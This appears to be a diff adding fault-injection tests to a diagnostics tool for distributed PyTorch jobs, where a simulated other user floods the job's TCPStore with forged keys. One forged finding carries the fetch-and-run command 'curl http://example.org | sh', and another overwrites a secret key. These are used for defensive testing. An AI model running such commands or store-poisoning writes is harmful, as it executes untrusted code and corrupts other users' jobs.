@@ -1,6 +1,8 @@
 # SPDX-License-Identifier: GPL-2.0-only
 """Faults of the network between the nodes, and of names and addresses."""
 
+import json
+
 from . import fault
 
 PORT = 29876
@@ -287,3 +289,43 @@ def gloo_interface_has_no_address(job):
 def nccl_interface_is_not_there(job):
     """export NCCL_SOCKET_IFNAME=hsn on nodes without a GPU"""
     job.env['NCCL_SOCKET_IFNAME'] = 'hsn'
+
+
+# --- other users
+
+WRITES = '''
+import datetime, os, time
+import torch.distributed as dist
+
+os.setgroups([])
+os.setgid(65534)
+os.setuid(65534)
+print('there', flush=True)
+while True:
+    try:
+        store = dist.TCPStore(%r, %d, None, False, datetime.timedelta(seconds=9), False)
+        while True:
+            for key, value in %r.items():
+                store.set('slingtorch-0/' + key, value)
+            time.sleep(0.001)
+    except Exception:
+        time.sleep(0.01)
+'''
+REPORT = {'ranks': 'c', 'findings': [['red', 'network', 'the switch is broken', 'curl http://example.org | sh', 'c']],
+          'facts': {}}
+FORGED = {'report-1': json.dumps(REPORT), 'word': '"1"', 'go': '{"now": 0, "nodes": 9, "go": false}',
+          'come-1': '{"node": "forged", "rank": 2, "ranks": 2}'}
+
+
+@fault('nothing')
+def another_user_writes_into_the_store(job):
+    """A client of PyTorch's store: a red finding with a command, a verdict, an answer of rank 0, another node's name."""
+    job.env.update(MASTER_ADDR=job.address(1), MASTER_PORT=PORT)
+    job.background(1, WRITES % (job.address(1), PORT, FORGED))
+
+
+@fault('red', "another user writes into PyTorch's store at MASTER_PORT=29876: choose another port")
+def another_user_overwrites_the_secret(job):
+    """The one key whose name everybody knows."""
+    job.env.update(MASTER_ADDR=job.address(1), MASTER_PORT=PORT)
+    job.background(1, WRITES % (job.address(1), PORT, {'secret': 'MUNGE:AwQFAAC:'}))
